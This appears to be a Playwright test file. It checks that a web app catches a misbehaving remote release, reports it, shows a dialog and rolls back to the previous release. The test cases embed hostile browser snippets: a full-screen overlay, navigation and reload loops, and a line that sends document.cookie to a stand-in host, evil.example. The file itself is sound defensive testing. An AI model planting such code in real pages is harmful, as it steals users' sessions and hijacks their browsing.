import { expectAccessible } from '../../support/accessible.ts';
import {
  expect,
  expectPreviousRelease,
  failureOf,
  releaseOf,
  REMOTE,
  test,
} from '../../support/bad-release-test.ts';
import { inBrowser } from '../../support/remote-source.ts';
import { reportsOf } from '../../support/sent-reports.ts';

test.use({ expectedNoise: /auth|TypeError|read only|not extensible|refused/ });

interface Case {
  what: string;
  /** Runs in browsers as the release is imported. */
  code: string;
  kind: 'hidden' | 'navigation';
  /** Text that the visitor reads. */
  text: string;
}

const CASES: readonly Case[] = [
  {
    what: 'covers the menu',
    code: `const cover = document.createElement('div');
      cover.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:white';
      document.body.append(cover);`,
    kind: 'hidden',
    text: 'hides the menu',
  },
  {
    what: 'navigates in a loop',
    code: `let count = 0; setInterval(() => history.pushState(null, '', '/login?n=' + (count += 1)), 50);`,
    kind: 'navigation',
    text: 'kept opening pages by itself',
  },
  {
    what: 'loads the page again and again',
    code: `setTimeout(() => location.reload(), 50);`,
    kind: 'navigation',
    text: 'kept opening pages by itself',
  },
  {
    what: 'takes the visitor to another site',
    code: `location.href = 'https://evil.example/?' + document.cookie;`,
    kind: 'navigation',
    text: 'tried to take you to another site',
  },
];

for (const { what, code, kind, text } of CASES)
  test(`a release that ${what} is stopped and reported, and the visitor goes on without it`, async ({
    page,
    publishBad,
  }) => {
    const version = await publishBad(releaseOf(inBrowser(code), `() => h('h1', { children: 'Bad' })`));
    const reports = reportsOf(page);
    await page.goto('/login');
    const dialog = page.getByRole('alertdialog');
    await expect(dialog).toContainText(`${REMOTE} ${version} ${text}`, { timeout: 30_000 });
    await expect.poll(() => reports).toContainEqual(failureOf(version, kind));
    if (kind === 'hidden') await expectAccessible(page, dialog);
    await dialog.getByRole('button', { name: 'Reload' }).click();
    await expectPreviousRelease(page);
    await expect(dialog).toBeHidden();
  });
